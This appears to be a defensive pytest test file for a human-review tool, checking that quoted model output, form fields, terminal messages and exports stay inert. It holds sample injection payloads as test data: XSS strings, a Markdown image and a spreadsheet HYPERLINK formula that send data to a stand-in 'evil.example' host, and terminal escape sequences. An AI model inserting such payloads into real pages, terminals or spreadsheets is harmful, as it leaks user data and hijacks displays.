"""What a model, a case or a reviewer wrote is shown as text: to a browser, to a terminal, in a file for others."""

import ast
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from pydantic import BaseModel

from hitl_prefect.cli import main
from hitl_prefect.cli.printing import print_json, table
from hitl_prefect.inert import code_span, fence, visible, visible_json
from hitl_prefect.models import Case
from hitl_prefect.notices import excerpt
from hitl_prefect.training import training_files
from tests.unit.invoices import form_for
from tests.unit.making import an_outcome
from tests.unit.security.fuzzing import fuzzed
from tests.unit.security.sources import nodes

BREAKING_OUT = [
    "![a](http://evil.example/leak)",
    "[a](javascript:alert(1))",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "</details></code></pre>",
    "<http://evil.example>",
    "`",
    "```",
    "~~~",
    "\n",
    "\n\n",
    "    ",
    "| a |",
    "# h",
    "&lt;b&gt;",
    "{{ 7 * 7 }}",
    "\\",
    "\u202e",
    "\x1b]8;;http://evil.example\x07",
    "\u009b31m",
    "\u2028",
    "\x00",
    "a",
]
HOSTILE = st.lists(st.sampled_from(BREAKING_OUT), min_size=1, max_size=8).map("".join)
OURS = {"<details>", "<summary>", "</summary>", "</details>"}
"""The only HTML of a form: a draft's fields can be folded away."""


def _live(markdown):
    """Whatever of a page is more than text: images, links, HTML that is not ours."""
    tokens = MarkdownIt("commonmark").enable("table").parse(markdown)
    flat = [one for token in tokens for one in (token, *(token.children or ()))]
    html = [
        tag for one in flat if one.type.startswith("html") for tag in one.content.replace("The whole draft", "").split()
    ]
    return [one.type for one in flat if one.type in ("image", "link_open")] + [
        tag for tag in html if tag.replace("><", "> <").split(" ")[0] not in OURS and tag not in OURS
    ]


@fuzzed(50)
@given(HOSTILE)
def test_whatever_is_quoted_is_only_code(text):
    for shown in (fence(text), f"- {code_span(text)}", f"| a |\n| --- |\n| {code_span(text)} |"):
        assert _live(shown) == []
    assert visible(code_span(text)).count("\n") == 0


@fuzzed()
@given(HOSTILE, st.booleans())
def test_nothing_of_a_form_is_live_but_our_own_words(text, filled):
    """Prompt, draft, problems, reasons, metadata, what was typed last and what was wrong with it."""
    case = Case(id="c1", task="t", prompt=text, metadata={text: text}, answer=str)
    answer = {"a": text} if filled else text
    form = form_for(
        answer, case=case.model_copy(update={"answer": dict if filled else str}), errors=(text,), typed=text
    )

    assert _live(form.description) == []
    assert "\x1b" not in form.description


@pytest.fixture(params=["\x1b[2J", "\x1b]0;title\x07", "\u009b31m", "\u202e", "\x08" * 3, "\r"])
def terminal_code(request):
    return request.param


def test_an_error_of_a_command_does_nothing_to_the_terminal(terminal_code, tmp_path, capsys):
    """Messages quote what was typed, and name cases, people and files."""
    with pytest.raises(SystemExit) as ended:
        main(["export", f"folder:{tmp_path}/{terminal_code}", "--task", "t", "--format", "trl-sft", "--dry-run"])

    assert ended.value.code == 1
    assert not set(terminal_code) & set("\x1b\x07\x08\u009b\u202e\r") & set(capsys.readouterr().err)


def test_a_row_of_a_table_is_one_line_that_does_nothing(terminal_code):
    printed = table([{"case": f"c1{terminal_code}\nc2  approved", "who": "ada"}])

    assert len(printed.splitlines()) == 2
    assert not set("\x1b\x07\x08\u009b\u202e\r") & set(printed)


class _Said(BaseModel):
    text: str


@fuzzed(50)
@given(HOSTILE | st.text())
def test_json_on_a_terminal_says_the_same_and_does_nothing(text):
    """JSON escapes what is below a space, and no other control character by itself."""
    shown = visible_json(_Said(text=text).model_dump_json(indent=2))

    assert json.loads(shown) == {"text": text}
    assert visible(shown) == shown


def test_a_command_prints_json_so(terminal_code, capsys):
    print_json(_Said(text=terminal_code))
    out = capsys.readouterr().out

    assert json.loads(out) == {"text": terminal_code}
    assert not set("\x1b\x07\x08\u009b\u202e\r") & set(out)


@fuzzed()
@given(HOSTILE)
def test_words_in_a_message_mention_nobody_and_load_nothing(text):
    """Of chat programs each has marks of its own: there the words stand in a block of code."""
    assert _live(excerpt(text)) == []
    assert not set("<>") & set(excerpt(text))


def test_no_file_of_ours_is_opened_by_a_spreadsheet():
    """`=cmd|...` is a formula in CSV: we write JSON, JSONL and Parquet, where it is text, and no CSV."""
    called = {
        (file, node.attr)
        for file, node in nodes(ast.Attribute)
        if node.attr in ("writer", "DictWriter", "to_csv", "to_excel", "to_html")
    }

    assert called == set()


def test_a_formula_in_an_answer_is_exported_as_the_text_that_it_is():
    """To the letter: a model that is trained on it must not learn an apostrophe."""
    formula = '=HYPERLINK("http://evil.example?"&A1)'
    files = training_files(
        [an_outcome(final_answer=formula)], task="invoices", file_format="trl-sft", include=("accepted",)
    )
    rows = [
        json.loads(line) for name in ("train.jsonl", "validation.jsonl") for line in files.bodies()[name].splitlines()
    ]

    assert [row["messages"][-1]["content"] for row in rows] == [formula]
